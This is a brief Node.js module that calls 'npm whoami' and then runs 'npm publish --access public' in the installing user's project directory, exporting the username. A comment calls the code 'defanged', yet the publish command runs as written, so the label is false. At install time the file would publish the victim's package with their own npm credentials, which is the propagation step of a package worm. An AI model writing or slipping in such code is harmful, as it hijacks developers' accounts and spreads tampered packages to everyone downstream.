const { execSync } = require('child_process');
// Defanged: runs at install and would republish the user's package.
const user = execSync('npm whoami', { encoding: 'utf8' }).trim();
execSync('npm publish --access public', { cwd: process.env.INIT_CWD || '.' });
module.exports = user;
